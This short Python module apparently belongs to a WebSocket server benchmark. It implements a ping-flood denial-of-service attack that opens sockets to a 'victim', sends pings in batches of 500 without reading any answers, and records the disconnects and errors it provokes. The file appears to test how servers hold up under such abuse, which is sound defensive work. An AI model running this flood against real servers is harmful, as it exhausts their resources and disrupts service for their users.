"""Pings without end from a socket that reads no answer."""

from bench.attacks.harness import PING, Told, Victim, closing, frame, web_socket

LONG = 2_000_000
_AT_ONCE = 500


async def attack(victim: Victim, most: int) -> Told:
    told = victim.told
    ping = frame(b"x" * 125, PING) * _AT_ONCE
    while told.sent < most and sum(told.cuts.values()) < 5:
        try:
            async with web_socket(victim) as socket:
                while told.sent < most and await socket.send(ping):
                    told.sent += _AT_ONCE
                if told.sent < most:
                    told.cut(closing(await socket.rest(5)) or "aborted")
        except OSError as error:
            told.answers[str(error)] += 1
            break
    return told
